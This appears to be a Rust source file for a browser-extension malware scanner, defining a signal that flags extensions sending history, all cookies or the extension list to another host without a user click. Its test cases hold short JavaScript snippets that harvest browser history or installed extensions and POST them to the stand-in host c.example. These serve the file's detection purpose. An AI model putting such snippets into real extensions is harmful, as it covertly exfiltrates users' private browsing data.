//! `browser-data-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::taint::Mark;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "browser-data-sent",
    description: "The extension reads the browser's history, cookies or list of extensions on its own, and sends them to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::BrowserDataSent])],
    within: 0,
    only_if: Some(is_private_and_unasked),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "const q=[];chrome.history.search({text:''},items=>q.push(...items.map(i=>i.url)));function go(){fetch('https://c.example/h',{method:'POST',body:JSON.stringify(q.splice(0))})}",
            "const n=require('./n');class V{start(){chrome.history.search({text:'',startTime:0},items=>this.give(items))}give(items){const body=(0,n.b64)(JSON.stringify(items));fetch('https://c.example/h',{method:'POST',body})}}new V().start()",
            "chrome.runtime.onStartup.addListener(async()=>{const all=await chrome.management.getAll();navigator.sendBeacon('https://c.example/e',JSON.stringify(all.map(e=>e.id)))})",
        ],
        without: &[
            "chrome.action.onClicked.addListener(()=>{chrome.history.search({text:''},items=>fetch('https://sync.example/h',{method:'POST',body:JSON.stringify(items)}))})",
            "chrome.bookmarks.getTree(tree=>fetch('https://sync.example/b',{method:'POST',body:JSON.stringify(tree)}))",
            "chrome.history.search({text:q},items=>show(items));fetch('https://sync.example/hello')",
            "chrome.history.search({text:q},items=>fetch('/h',{method:'POST',body:JSON.stringify(items)}))",
            // A shop's page reads a cookie of that shop alone.
            "chrome.runtime.onMessage.addListener(()=>{chrome.cookies.getAll({domain:'shop.example'},c=>fetch('https://shop.example/cart',{method:'POST',body:c[0].value}))})",
        ],
    },
};

/// Whether one of what is sent is the history, all cookies or the list of extensions, and no click asked for it.
fn is_private_and_unasked(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let sent = evidence.flows.iter().filter(|flow| flow.at == held.last && flow.marks.has(Mark::BrowserData));
    let from = sent.map(|flow| flow.from as usize).min().unwrap_or(held.first as usize);
    let asked = from..held.last as usize + 1;
    let is_private = |at: usize| match (near.before(at, 1), near.word(at)) {
        ("history", "search") | ("management", "getAll") => true,
        // `getAll({})`, of all sites.
        ("cookies", "getAll") => near.is(at + 2, b'{') && near.is(at + 3, b'}'),
        _ => false,
    };
    asked.filter(|at| is_private(*at)).any(|at| !near.answers_user(at))
        && !near.answers_user(held.last as usize)
}
